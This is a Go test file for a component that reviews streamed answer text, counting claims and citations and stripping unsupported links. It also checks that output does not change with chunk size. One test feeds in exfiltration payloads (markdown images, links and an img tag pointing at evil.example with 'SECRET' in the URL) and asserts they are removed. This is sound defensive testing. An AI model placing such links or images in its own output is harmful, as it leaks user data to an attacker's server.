package answer_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"levada.dev/workflows/answer"
)

// A question claims nothing, but what it has a reader load is checked as in any other sentence.
func TestAnAddressInAQuestionIsAClaim(t *testing.T) {
	const asks, leaks, knows = "Do you want to know more? ", "See ![m](https://evil.example/p.png?q=SECRET)? ", "The map is at https://maps.example/levadas?sheet=4, is it? "
	for _, leak := range []string{leaks, "See [this](/x?q=SECRET) [6]? ", "Is it at //evil.example/SECRET? [6] ", `<img src="https://evil.example/?SECRET">? `} {
		r := answer.NewReview(guide, true)
		told := r.Take(asks + leak + knows)
		rest, out := r.End(true)
		assert.NotContains(t, told+rest, "SECRET")
		assert.Contains(t, told+rest, strings.TrimSpace(asks))
		assert.Contains(t, told+rest, "https://maps.example/levadas?sheet=4", "it stands in a source")
		assert.Equal(t, 2, out.Claims)
		assert.Equal(t, 1, out.Supported)

		r = answer.NewReview(guide, false)
		r.Take(asks + leak + knows)
		_, out = r.End(true)
		assert.Equal(t, 2, out.Claims, "it counts in the confidence")
		assert.Equal(t, 1, out.Supported)
		require.Len(t, out.Citations, 2, "and is marked")
		assert.Contains(t, out.Citations[0].Sentence, "SECRET")
		assert.False(t, out.Citations[0].Supported)
		assert.True(t, out.Citations[1].Supported)
	}
}

// A sentence that does not end, but has points in it, is not read from its beginning with each word: twice the sentence is twice the work.
func TestAnEndlessSentenceIsNotReadAnewWithEachPiece(t *testing.T) {
	work := func(words int) float64 {
		return testing.AllocsPerRun(1, func() {
			r := answer.NewReview(guide[:1], true)
			for range words {
				require.Empty(t, r.Take("Fig. 3.5 "))
			}
		})
	}
	once, twice := work(500), work(1000)
	assert.Less(t, twice, 3*once, "%v, %v", once, twice)
}

// What is told is the same in pieces of any size.
func TestThePiecesDoNotMatter(t *testing.T) {
	said := strings.Repeat("Levadas carry water across Madeira [1]. The moon is made of cheese. A pump lifts 40 litres a minute, see Fig. 3 [2]. Is it so? ", 12) +
		strings.Repeat("See Fig. 3 and Dr. Lima, e.g. ", 40) + "there. The Levada do Rei was opened in 1816."
	var texts, citations []any
	for _, size := range []int{1, 7, 100, 3000, len(said)} {
		r := answer.NewReview(guide, true)
		var told strings.Builder
		for rest := said; rest != ""; {
			n := min(size, len(rest))
			told.WriteString(r.Take(rest[:n]))
			rest = rest[n:]
		}
		rest, out := r.End(true)
		assert.Equal(t, told.String()+rest, out.Text)
		texts, citations = append(texts, out.Text), append(citations, out.Citations)
	}
	for i := range texts {
		assert.Equal(t, texts[0], texts[i])
		assert.Equal(t, citations[0], citations[i])
	}
}
